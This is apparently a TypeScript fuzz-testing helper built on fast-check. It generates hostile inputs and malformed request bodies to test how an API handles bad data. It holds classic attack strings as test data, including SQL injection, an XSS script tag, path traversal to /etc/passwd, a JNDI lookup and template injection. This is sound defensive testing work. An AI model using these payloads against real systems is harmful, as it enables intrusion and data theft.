import fc from 'fast-check';

/** Text an attacker or a broken client sends: storage-breaking characters, injections, paths, empties, giants. */
export const HOSTILE_TEXT: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'tail \udfff',
  '\u200b\u200b',
  '\u3164',
  '   ',
  '',
  "'; DROP TABLE users; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00',
  '%2e%2e%2f',
  '${jndi:ldap://example.test/a}',
  '{{7*7}}',
  '\u202eevil',
  'null',
  '-1',
  '1e309',
  '0x10',
  'x'.repeat(70_000),
];

export const hostileText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
    { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom('\ud800', '\udc00', '\u0000', 'a', '\u200b', 'é'), maxLength: 30 }) },
  );

/** Any JSON value of the wrong shape, hostile text included. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 4, arbitrary: hostileText() },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.constantFrom(-1, 0, 2 ** 53, -(2 ** 53), 1.5, Number.MAX_VALUE) },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }) },
    { weight: 1, arbitrary: fc.constant(Array.from({ length: 600 }, () => ({ title: 'x', summary: 'y' }))) },
  );

/** Raw bodies that are not what their headers say. */
export const RAW_BODIES: readonly { label: string; body: string; headers: Record<string, string> }[] = [
  { label: 'truncated JSON', body: '{"title": "Half', headers: { 'content-type': 'application/json' } },
  { label: 'a JSON string', body: '"just text"', headers: { 'content-type': 'application/json' } },
  { label: 'a JSON array', body: '[1,2,3]', headers: { 'content-type': 'application/json' } },
  { label: 'text/plain', body: 'hello', headers: { 'content-type': 'text/plain' } },
  { label: 'form data', body: 'a=1&b=2', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
  { label: 'fake gzip', body: 'not gzip at all', headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } },
  { label: 'unknown encoding', body: '{}', headers: { 'content-type': 'application/json', 'content-encoding': 'compress' } },
  { label: 'unknown charset', body: '{}', headers: { 'content-type': 'application/json; charset=ebcdic' } },
  { label: 'NUL in JSON', body: '{"title":"a\\u0000b"}', headers: { 'content-type': 'application/json' } },
  { label: 'lone surrogate in JSON', body: '{"title":"\\ud800"}', headers: { 'content-type': 'application/json' } },
  { label: 'deep nesting', body: `${'['.repeat(5000)}${']'.repeat(5000)}`, headers: { 'content-type': 'application/json' } },
  { label: 'oversized body', body: `{"title":"${'x'.repeat(3 * 1024 * 1024)}"}`, headers: { 'content-type': 'application/json' } },
];
